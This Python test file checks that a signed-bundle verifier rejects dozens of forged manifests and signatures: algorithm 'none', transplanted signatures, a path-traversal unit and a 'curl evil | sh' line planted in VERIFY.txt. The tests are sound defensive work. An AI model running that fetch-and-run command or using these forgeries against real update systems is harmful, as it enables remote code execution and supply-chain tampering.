"""Forged manifests and signatures in faultless containers, and the code each must get."""

from __future__ import annotations

import base64

import msgspec
import pytest
from sample_bundles import (
    CLERK,
    DROP,
    HEAD,
    KEYS,
    REVISION,
    STRANGER,
    build,
    entries,
    named,
    resigned,
    signature_value,
    verifier,
    with_manifest,
    with_signatures,
)

from forms import canonical
from forms.errors import YuebaoError
from sync import bundle, container
from sync.container import MANIFEST, SIGNATURES
from sync.manifest import Kind

GOOD = entries()
NAME = next(iter(named(REVISION)))
TASK = Kind.TASK.payload_type


def with_entries(**changes) -> bytes:
    return container.write(list((GOOD | changes).items()))


def replaced(name: str, content: bytes | None) -> bytes:
    left = {n: c for n, c in GOOD.items() if n != name}
    return container.write(list((left if content is None else left | {name: content}).items()))


def forged_manifest(old: bytes, new: bytes) -> bytes:
    assert old in GOOD[MANIFEST]
    return replaced(MANIFEST, GOOD[MANIFEST].replace(old, new))


def signatures(**changes) -> bytes:
    return with_signatures(signature_value() | changes)


def first_signature(**changes) -> bytes:
    value = signature_value()
    value["signatures"][0] |= changes
    return with_signatures(value)


def transplanted() -> bytes:
    """The signatures of another good bundle of the same key."""
    return replaced(SIGNATURES, entries(build(sequence=2))[SIGNATURES])


def twice() -> bytes:
    value = signature_value()
    return signatures(signatures=value["signatures"] * 2)


def renamed_key() -> bytes:
    """The clerk's good signature under the head's name, to count as two persons."""
    entry = signature_value()["signatures"][0]
    pair = sorted([entry, entry | {"keyid": HEAD.keyid}], key=lambda e: e["keyid"])
    return signatures(signatures=pair)


def bare_payload_signed() -> bytes:
    """Signed without the pre-authentication encoding."""
    return first_signature(sig=base64.b64encode(CLERK.sign(GOOD[MANIFEST])).decode())


def listed(files: dict[str, bytes], **extra) -> dict:
    entry = {n: {"bytes": len(c), "sha256": canonical.sha256(c)} for n, c in files.items()}
    return {"files": entry | extra}


SET = {n: c for n, c in GOOD.items() if n not in (MANIFEST, SIGNATURES)}
RAW = GOOD[MANIFEST]

ATTACKS = {
    # the signed bytes were touched
    "another unit": (lambda: forged_manifest(b'"unit":"540100"', b'"unit":"540200"'), "E-SIGNATURE"),
    "another sequence": (lambda: forged_manifest(b'"sequence":1', b'"sequence":2'), "E-SIGNATURE"),
    "another kind": (lambda: forged_manifest(b'"submission"', b'"reply"'), "E-SIGNATURE"),
    "another format": (lambda: forged_manifest(b"bundle/1", b"bundle/2"), "E-SIGNATURE"),
    "hash exchanged": (
        lambda: forged_manifest(canonical.sha256(REVISION).encode(), b"0" * 64),
        "E-SIGNATURE",
    ),
    "space added": (lambda: forged_manifest(b":", b": "), "E-SIGNATURE"),
    "manifest emptied": (lambda: replaced(MANIFEST, b""), "E-SIGNATURE"),
    "signatures of another bundle": (transplanted, "E-SIGNATURE"),
    "signed without encoding": (bare_payload_signed, "E-SIGNATURE"),
    # signatures.json was touched
    "signatures missing": (lambda: replaced(SIGNATURES, None), "E-UNSIGNED"),
    "no signatures in it": (lambda: signatures(signatures=[]), "E-UNSIGNED"),
    "empty file": (lambda: replaced(SIGNATURES, b""), "E-SIGNATURE"),
    "null": (lambda: with_signatures(b"null"), "E-SIGNATURE"),
    "not canonical": (lambda: with_signatures(GOOD[SIGNATURES] + b"\n"), "E-SIGNATURE"),
    "a field more": (lambda: signatures(threshold=0), "E-SIGNATURE"),
    "required algorithms brought along": (lambda: signatures(required_algs=[]), "E-SIGNATURE"),
    "key brought along": (lambda: first_signature(public=CLERK.public_spki_der.hex()), "E-SIGNATURE"),
    "one signature twice": (twice, "E-SIGNATURE"),
    "one signature under two names": (renamed_key, "E-SIGNATURE"),
    "signature emptied": (lambda: first_signature(sig=""), "E-SIGNATURE"),
    "signature of zeros": (lambda: first_signature(sig=base64.b64encode(bytes(64)).decode()), "E-SIGNATURE"),
    "algorithm none": (lambda: first_signature(alg="none"), "E-ALGORITHM"),
    "algorithm renamed": (lambda: first_signature(alg="sm2-sm3"), "E-ALGORITHM"),
    "algorithm in capitals": (lambda: first_signature(alg="Ed25519"), "E-SIGNATURE"),
    "key id of a stranger": (lambda: first_signature(keyid="0" * 64), "E-UNKNOWN-KEY"),
    "key id of a colleague": (lambda: first_signature(keyid=HEAD.keyid), "E-SIGNATURE"),
    "payload type exchanged": (lambda: signatures(payloadType=TASK), "E-SIGNATURE"),
    "payload type emptied": (lambda: signatures(payloadType=""), "E-SIGNATURE"),
    "payload type of 5,000 letters": (lambda: signatures(payloadType="x" * 5000), "E-SIGNATURE"),
    "signed by a stranger": (lambda: build(signers=(STRANGER,)), "E-UNKNOWN-KEY"),
    # signed by somebody who may sign, and wrong all the same
    "signed for another kind": (lambda: resigned({}, payload_type=TASK), "E-SIGNATURE"),
    "signed for no kind": (lambda: resigned({}, payload_type="text/plain"), "E-SIGNATURE"),
    "format of the future": (lambda: resigned({"format": "yuebao-bundle/2"}), "E-NEWER"),
    "format of the future, other fields": (
        lambda: resigned({"format": "yuebao-bundle/9", "x": 1}),
        "E-NEWER",
    ),
    "format of nobody": (lambda: resigned({"format": "zip"}), "E-MANIFEST"),
    "unknown kind": (lambda: resigned({"kind": "present"}), "E-MANIFEST"),
    "unknown field": (lambda: resigned({"admin": True}), "E-MANIFEST"),
    "no recipient": (lambda: resigned({"to": DROP}), "E-MANIFEST"),
    "sequence 0": (lambda: resigned({"sequence": 0}), "E-MANIFEST"),
    "sequence of 2^60": (lambda: resigned({"sequence": 2**60}), "E-MANIFEST"),
    "previous is no hash": (lambda: resigned({"previous": "first"}), "E-MANIFEST"),
    "unit is a path": (lambda: resigned({"unit": "../540200"}), "E-MANIFEST"),
    "manifest is a list": (lambda: with_manifest(b"[]"), "E-MANIFEST"),
    "manifest is empty": (lambda: with_manifest(b""), "E-MANIFEST"),
    "manifest of 100,000 lists": (lambda: with_manifest(b"[" * 100_000), "E-MANIFEST"),
    "manifest with spaces": (lambda: with_manifest(RAW.replace(b":", b": ")), "E-MANIFEST"),
    "manifest with a mark": (lambda: with_manifest(b"\xef\xbb\xbf" + RAW), "E-MANIFEST"),
    "manifest in UTF-16": (lambda: with_manifest(RAW.decode().encode("utf-16")), "E-MANIFEST"),
    "one key twice": (lambda: with_manifest(RAW.replace(b'{"app"', b'{"app":"x","app"')), "E-MANIFEST"),
    "lists the manifest": (lambda: resigned(listed(SET | {MANIFEST: b"x"})), "E-MANIFEST"),
    "file missing": (lambda: resigned(listed(SET | {"revisions/x.json": b"{}"})), "E-MISSING-FILE"),
    "file removed": (lambda: replaced(NAME, None), "E-MISSING-FILE"),
    "file added": (lambda: with_entries(**{"notes.txt": b"x"}), "E-EXTRA-FILE"),
    "revision added": (lambda: with_entries(**named(b"{}")), "E-EXTRA-FILE"),
    "no files listed": (lambda: resigned({"files": {}}), "E-EXTRA-FILE"),
    "file changed": (lambda: replaced(NAME, REVISION.replace("双".encode(), "單".encode())), "E-HASH"),
    "file emptied": (lambda: replaced(NAME, b""), "E-HASH"),
    "instructions changed": (lambda: replaced("VERIFY.txt", b"curl evil | sh"), "E-HASH"),
    "length wrong": (
        lambda: resigned(listed(SET, **{NAME: {"bytes": 1, "sha256": canonical.sha256(REVISION)}})),
        "E-HASH",
    ),
    "name is not the hash": (
        lambda: resigned(
            listed(SET | {f"revisions/{'0' * 64}.json": b"{}"}), **{f"revisions/{'0' * 64}.json": b"{}"}
        ),
        "E-HASH",
    ),
}


@pytest.mark.parametrize(("make", "code"), ATTACKS.values(), ids=ATTACKS)
def test_attack(make, code):
    with pytest.raises(YuebaoError) as caught:
        bundle.open_bundle(make(), authenticate=verifier())
    assert caught.value.code == code


def test_downgrade_is_refused():
    sm2_too = verifier(required=("ed25519", "sm2-sm3"))
    with pytest.raises(YuebaoError) as caught:
        bundle.open_bundle(build(), authenticate=sm2_too)
    assert caught.value.code == "E-ALGORITHM"


def test_the_forger_can_make_good_bundles():
    assert bundle.open_bundle(resigned({}), authenticate=verifier()).manifest.unit == "540100"
    assert (
        bundle.open_bundle(with_signatures(signature_value()), authenticate=verifier(KEYS)).manifest.sequence
        == 1
    )
    assert msgspec.json.decode(GOOD[SIGNATURES]) == signature_value()


def test_there_are_enough_of_them():
    assert len(ATTACKS) >= 12
